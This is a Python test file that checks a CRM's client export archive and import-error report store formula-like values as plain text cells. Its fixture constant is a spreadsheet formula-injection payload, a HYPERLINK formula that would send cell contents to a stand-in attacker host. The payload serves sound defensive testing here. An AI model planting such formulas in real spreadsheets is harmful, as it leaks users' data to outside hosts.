"""What the export archive and the import report write: text stays text, only members are
matched, and an archive cannot unpack into more than it says."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest

from crm_core.models import Client
from onboarding.models import ImportBatch, ImportRowNote
from onboarding.services.exports import build_export, request_export
from onboarding.services.imports import report_workbook

pytestmark = pytest.mark.usefixtures("media_root")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _cells(xlsx: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_export_writes_a_formula_like_name_as_text(make_company: Any) -> None:
    a = make_company("Alpha")
    with a:
        Client.objects.create(name=FORMULA, custom={"note": "=1+1"})
        job = build_export(request_export(user_id=a.owner.pk), company=a.company)
        archive = zipfile.ZipFile(io.BytesIO(job.file.read()))
    cells = _cells(archive.read("xlsx/clients.xlsx"))
    named = [c for c in cells if c.value == FORMULA]
    assert named, "the name is in the sheet exactly as typed"
    assert all(c.data_type == "s" for c in named)
    assert not [c for c in cells if c.data_type == "f"]


def test_import_report_writes_what_the_row_said_as_text(make_company: Any) -> None:
    a = make_company("Alpha")
    with a:
        batch = ImportBatch.objects.create(file_name="x.csv", file="imports/x.csv")
        ImportRowNote.objects.create(
            batch=batch, row=2, outcome="rejected", reason=FORMULA, values={"name": "=2+2"}
        )
        cells = _cells(report_workbook(batch))
    assert FORMULA in [c.value for c in cells]
    assert "name: =2+2" in [c.value for c in cells]
    assert not [c for c in cells if c.data_type == "f"]
